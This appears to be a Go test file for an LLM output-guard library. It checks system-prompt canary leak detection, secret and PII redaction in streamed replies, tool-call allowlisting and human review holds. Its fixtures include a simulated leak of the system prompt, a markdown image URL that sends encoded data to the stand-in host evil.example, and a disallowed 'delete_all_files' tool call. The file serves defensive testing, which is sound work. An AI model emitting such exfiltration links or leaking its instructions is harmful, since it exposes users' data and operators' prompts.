package secureai_test

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/sashabaranov/go-openai"
	"github.com/sashabaranov/go-openai/jsonschema"

	"github.com/secureai-go/secureai"
	"github.com/secureai-go/secureai/sanitize"
)

// split cuts s into n pieces of about equal length, on byte boundaries (a
// stream may split anywhere).
func split(s string, n int) []string {
	var out []string
	for k := range n {
		out = append(out, s[len(s)*k/n:len(s)*(k+1)/n])
	}
	return out
}

// readStream reads a chat stream to its end and returns the content it
// released and the error that ended it (nil for io.EOF).
func readStream(t *testing.T, s *secureai.ChatCompletionStream) (string, error) {
	t.Helper()
	defer s.Close()
	var b strings.Builder
	for {
		chunk, err := s.Recv()
		if errors.Is(err, io.EOF) {
			return b.String(), nil
		}
		if err != nil {
			return b.String(), err
		}
		for _, c := range chunk.Choices {
			b.WriteString(c.Delta.Content)
		}
	}
}

func blockedBy(t *testing.T, err error, reason string) {
	t.Helper()
	e, ok := errors.AsType[*secureai.Error](err)
	if !errors.Is(err, secureai.ErrOutputBlocked) || !ok || e.Reason != reason {
		t.Fatalf("err = %v, want ErrOutputBlocked with reason %q", err, reason)
	}
}

// systemPrompt returns the system message a request body carries.
func systemPrompt(body []byte) string {
	var req struct {
		Messages []struct{ Role, Content string }
	}
	_ = json.Unmarshal(body, &req)
	for _, m := range req.Messages {
		if m.Role == "system" {
			return m.Content
		}
	}
	return ""
}

func TestCanaryLeak(t *testing.T) {
	var mu sync.Mutex
	var canary string
	leak := func(n int) func([]byte) []string {
		return func(body []byte) []string {
			sp := systemPrompt(body)
			fields := strings.Fields(sp)
			mu.Lock()
			canary = fields[len(fields)-1] // AppendCanary puts it last
			mu.Unlock()
			return split("Sure, my secret marker is "+canary+" and that is all.", n)
		}
	}
	t.Run("plain", func(t *testing.T) {
		f := newFixture(t, secureai.WithLeakGuard(secureai.LeakPolicy{}))
		f.srv.SetReplyFunc(leak(1))
		_, err := f.client.CreateChatCompletion(f.ctx, chatReq(chatModel))
		blockedBy(t, err, "system_prompt_leak")
		if sp := systemPrompt(f.srv.Requests()[0].Body); !strings.HasPrefix(sp, "You are terse.") {
			t.Errorf("the canary must follow the prompt, not precede it: %q", sp)
		}
	})
	for _, n := range []int{2, 3, 50} {
		t.Run("stream split in "+itoa(n), func(t *testing.T) {
			f := newFixture(t, secureai.WithLeakGuard(secureai.LeakPolicy{}))
			f.srv.SetReplyFunc(leak(n))
			s, err := f.client.CreateChatCompletionStream(f.ctx, chatReq(chatModel))
			if err != nil {
				t.Fatal(err)
			}
			released, err := readStream(t, s)
			blockedBy(t, err, "system_prompt_leak")
			mu.Lock()
			c := canary
			mu.Unlock()
			// Not even a prefix of the canary may have been released.
			if len(c) < 8 || strings.Contains(released, c[:8]) {
				t.Errorf("released %q holds (part of) the canary %q", released, c)
			}
		})
	}
	t.Run("verbatim system prompt", func(t *testing.T) {
		f := newFixture(t, secureai.WithLeakGuard(secureai.LeakPolicy{MinRun: 48}))
		long := "You are the support assistant of Example Corp. Answer only questions about invoices, refunds and delivery times; escalate anything else to a human agent."
		f.srv.SetReplyChunks("My instructions say: ", long[10:90], " and more.")
		req := chatReq(chatModel)
		req.Messages[0].Content = long
		_, err := f.client.CreateChatCompletion(f.ctx, req)
		blockedBy(t, err, "system_prompt_leak")
	})
}

const awsKeyID = "AKIAIOSFODNN7EXAMPLE"

func TestOutputSecretsAndPII(t *testing.T) {
	answer := "Use key " + awsKeyID + " and write to jane.doe@example.com for access."
	t.Run("default redacts the key, keeps the e-mail", func(t *testing.T) {
		f := newFixture(t)
		f.srv.SetReply(answer)
		resp, err := f.client.CreateChatCompletion(f.ctx, chatReq(chatModel))
		if err != nil {
			t.Fatal(err)
		}
		got := resp.Choices[0].Message.Content
		if strings.Contains(got, awsKeyID) || !strings.Contains(got, "jane.doe@example.com") {
			t.Errorf("answer %q", got)
		}
	})
	t.Run("block", func(t *testing.T) {
		f := newFixture(t, secureai.WithOutputPolicy(secureai.OutputPolicy{Secrets: sanitize.Block}))
		f.srv.SetReply(answer)
		_, err := f.client.CreateChatCompletion(f.ctx, chatReq(chatModel))
		blockedBy(t, err, "secret_aws_access_key_id")
	})
	t.Run("redact PII", func(t *testing.T) {
		f := newFixture(t, secureai.WithOutputPolicy(secureai.OutputPolicy{Secrets: sanitize.Redact, PII: sanitize.Redact}))
		f.srv.SetReply(answer)
		resp, err := f.client.CreateChatCompletion(f.ctx, chatReq(chatModel))
		if err != nil {
			t.Fatal(err)
		}
		if got := resp.Choices[0].Message.Content; strings.Contains(got, awsKeyID) || strings.Contains(got, "jane.doe@") {
			t.Errorf("answer %q", got)
		}
	})
	for _, n := range []int{2, 3, 50} {
		t.Run("stream split in "+itoa(n), func(t *testing.T) {
			f := newFixture(t)
			f.srv.SetReplyChunks(split(answer, n)...)
			s, err := f.client.CreateChatCompletionStream(f.ctx, chatReq(chatModel))
			if err != nil {
				t.Fatal(err)
			}
			released, err := readStream(t, s)
			if err != nil {
				t.Fatal(err)
			}
			if strings.Contains(released, "AKIA") || !strings.Contains(released, "jane.doe@example.com") || !strings.HasSuffix(released, "for access.") {
				t.Errorf("released %q", released)
			}
		})
		t.Run("stream block split in "+itoa(n), func(t *testing.T) {
			f := newFixture(t, secureai.WithOutputPolicy(secureai.OutputPolicy{Secrets: sanitize.Block}))
			f.srv.SetReplyChunks(split(answer, n)...)
			s, err := f.client.CreateChatCompletionStream(f.ctx, chatReq(chatModel))
			if err != nil {
				t.Fatal(err)
			}
			released, err := readStream(t, s)
			blockedBy(t, err, "secret_aws_access_key_id")
			if strings.Contains(released, "AKIA") {
				t.Errorf("released %q", released)
			}
		})
	}
}

func TestPseudonymRestoredInStream(t *testing.T) {
	f := newFixture(t, secureai.WithRedaction(sanitize.Policy{Secrets: sanitize.Redact, PII: map[string]sanitize.Action{"email": sanitize.Pseudonymise}}))
	f.srv.SetReplyChunks("I will write to [EM", "AIL_1] to", "day.")
	req := chatReq(chatModel)
	req.Messages[1].Content = "Please mail jane.doe@example.com about the refund."
	s, err := f.client.CreateChatCompletionStream(f.ctx, req)
	if err != nil {
		t.Fatal(err)
	}
	released, err := readStream(t, s)
	if err != nil {
		t.Fatal(err)
	}
	if released != "I will write to jane.doe@example.com today." {
		t.Errorf("released %q", released)
	}
	if strings.Contains(string(f.srv.Requests()[0].Body), "jane.doe") {
		t.Error("the e-mail reached the provider")
	}
}

func TestExfiltrationImageRemoved(t *testing.T) {
	answer := "Here is the chart ![chart](https://evil.example/c.png?d=c2VjcmV0) and the docs ![logo](https://docs.example.com/logo.png)."
	f := newFixture(t, secureai.WithOutputPolicy(secureai.OutputPolicy{Secrets: sanitize.Redact, LinkHosts: []string{"docs.example.com"}}))
	f.srv.SetReply(answer)
	resp, err := f.client.CreateChatCompletion(f.ctx, chatReq(chatModel))
	if err != nil {
		t.Fatal(err)
	}
	got := resp.Choices[0].Message.Content
	if strings.Contains(got, "evil.example") || !strings.Contains(got, "https://docs.example.com/logo.png") {
		t.Errorf("answer %q", got)
	}
	for _, n := range []int{3, 50} {
		f.srv.SetReplyChunks(split(answer, n)...)
		s, err := f.client.CreateChatCompletionStream(f.ctx, chatReq(chatModel))
		if err != nil {
			t.Fatal(err)
		}
		released, err := readStream(t, s)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(released, "evil.example") || !strings.Contains(released, "docs.example.com/logo.png") {
			t.Errorf("stream in %d: released %q", n, released)
		}
	}
}

func weatherReq() openai.ChatCompletionRequest {
	req := chatReq(chatModel)
	req.Tools = []openai.Tool{{Type: openai.ToolTypeFunction, Function: &openai.FunctionDefinition{
		Name: "get_weather",
		Parameters: jsonschema.Definition{Type: jsonschema.Object, Required: []string{"city"},
			Properties: map[string]jsonschema.Definition{"city": {Type: jsonschema.String}}},
	}}}
	return req
}

func TestToolCallsChecked(t *testing.T) {
	f := newFixture(t)
	for _, tc := range []struct {
		name, fn, args, reason string
	}{
		{"allowed", "get_weather", `{"city":"Paris"}`, ""},
		{"outside the allowlist", "delete_all_files", `{}`, "tool_not_allowed"},
		{"schema violation", "get_weather", `{"city":42}`, "tool_arguments_invalid"},
		{"not JSON", "get_weather", `{"city":`, "tool_arguments_invalid"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f.srv.SetToolCall(tc.fn, tc.args)
			resp, err := f.client.CreateChatCompletion(f.ctx, weatherReq())
			if tc.reason == "" {
				if err != nil || resp.Choices[0].Message.ToolCalls[0].Function.Arguments != tc.args {
					t.Fatalf("err = %v, resp %+v", err, resp)
				}
			} else {
				blockedBy(t, err, tc.reason)
				if strings.Contains(err.Error(), "42") {
					t.Errorf("error %q echoes the arguments", err)
				}
			}
			s, err := f.client.CreateChatCompletionStream(f.ctx, weatherReq())
			if err != nil {
				t.Fatal(err)
			}
			defer s.Close()
			var args strings.Builder
			var serr error
			for {
				chunk, err := s.Recv()
				if err != nil {
					if !errors.Is(err, io.EOF) {
						serr = err
					}
					break
				}
				for _, c := range chunk.Choices {
					for _, call := range c.Delta.ToolCalls {
						args.WriteString(call.Function.Arguments)
					}
				}
			}
			if tc.reason == "" {
				if serr != nil || args.String() != tc.args {
					t.Fatalf("stream: err = %v, arguments %q", serr, args.String())
				}
				return
			}
			blockedBy(t, serr, tc.reason)
			if args.Len() != 0 {
				t.Errorf("stream released arguments %q before the check", args.String())
			}
		})
	}
	t.Run("no tools offered", func(t *testing.T) {
		f.srv.SetToolCall("get_weather", `{"city":"Paris"}`)
		_, err := f.client.CreateChatCompletion(f.ctx, chatReq(chatModel))
		blockedBy(t, err, "tool_not_allowed")
	})
}

func TestReviewerHoldsAnswers(t *testing.T) {
	var held []secureai.Review
	var mu sync.Mutex
	r := secureai.ReviewerFunc(func(_ context.Context, rv secureai.Review) (string, error) {
		mu.Lock()
		defer mu.Unlock()
		held = append(held, rv)
		return "rev-" + itoa(len(held)), nil
	})
	f := newFixture(t, secureai.WithReviewer(r, "pii/email"))
	f.srv.SetReply("Noted.")
	if _, err := f.client.CreateChatCompletion(f.ctx, chatReq(chatModel)); err != nil {
		t.Fatalf("an answer outside the categories: %v", err)
	}
	req := chatReq(chatModel)
	req.Messages[1].Content = "My e-mail is jane.doe@example.com, is my refund approved?"
	resp, err := f.client.CreateChatCompletion(f.ctx, req)
	e, _ := errors.AsType[*secureai.Error](err)
	if !errors.Is(err, secureai.ErrHeldForReview) || e.ReviewID != "rev-1" || len(resp.Choices) != 0 {
		t.Fatalf("err = %v, resp %+v", err, resp)
	}
	if len(held) != 1 || held[0].Fields[0].Text != "Noted." {
		t.Errorf("reviewer kept %+v", held)
	}
	fail := secureai.ReviewerFunc(func(context.Context, secureai.Review) (string, error) { return "", errors.New("queue down") })
	f2 := newFixture(t, secureai.WithReviewer(fail, "*"))
	_, err = f2.client.CreateChatCompletion(f2.ctx, chatReq(chatModel))
	blockedBy(t, err, "reviewer_failed")
}

func itoa(n int) string { return strconv.Itoa(n) }
